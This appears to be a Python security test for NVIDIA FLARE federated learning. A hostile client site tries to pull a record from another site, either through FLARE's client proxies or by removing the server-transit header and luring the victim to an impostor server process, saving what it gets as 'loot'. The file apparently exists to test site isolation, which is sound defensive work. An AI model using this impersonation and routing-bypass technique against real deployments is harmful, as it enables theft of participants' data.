"""A hostile site: while it answers the server, it asks site-1 for a record."""

import subprocess
import sys
import time
from pathlib import Path

from nvflare.collab import collab
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.fuel.f3.message import Message
from tests.flower.processes import free_port
from tests.nvflare.app.sites import TestClient
from tests.nvflare.theft import crafted

VICTIM, THIEF = "site-1", "site-2"
CHANNEL = "theft"  # of the thief's invitations


class Thief(TestClient):
    """On other sites than its own it is like the rest. What it gets goes to the folder `loot` of the configuration."""

    def _answer(self, common, own=b""):
        loot = Path(self.config["loot"])
        if self._site == THIEF and not any(loot.iterdir()):
            (loot / "ask").write_bytes(crafted(self.make_model()))
            {"ask": ask, "pose": pose}[self.config["attack"]](loot)
        return super()._answer(common, own)


def ask(loot):
    """Ask by the proxies that FLARE gives to every site."""
    (victim,) = (site for site in collab.other_clients if site.name == VICTIM)
    keep(loot / "answer.reply", victim(timeout=30.0).answer((loot / "ask").read_bytes(), b""))
    keep(loot / "ready.reply", victim(timeout=30.0).ready())


def pose(loot):
    """Invite the victim to connect to a process that calls itself the server, which then asks."""
    cell, port = collab.fl_ctx.get_engine().get_cell().core_cell, free_port()
    cell.add_outgoing_request_filter("*", "*", invite, f"tcp://127.0.0.1:{port}")
    server, victim = collab.server.backend.target_fqcn, cell.get_fqcn().replace(THIEF, VICTIM)
    command = [sys.executable, "-m", "tests.nvflare.app.impostor", server, str(port), victim, str(loot)]
    with (loot / "log").open("wb") as log, subprocess.Popen(command, stdout=log, stderr=log) as impostor:
        while impostor.poll() is None:
            cell.fire_and_forget(channel=CHANNEL, topic="call", targets=victim, message=Message())
            time.sleep(0.5)


def invite(message, url):
    """Make an invitation of a message of the thief's own, without the mark for which FLARE's server would remove it."""
    if message.get_header(MessageHeaderKey.CHANNEL) == CHANNEL:
        message.remove_header(MessageHeaderKey.SERVER_TRANSIT_REQUIRED)
        message.set_header(MessageHeaderKey.CONN_URL, url)


def keep(file, found):
    """Write down a reply: bytes as they are, anything else in quotes."""
    file.write_bytes(found if isinstance(found, bytes) else repr(str(found)).encode())
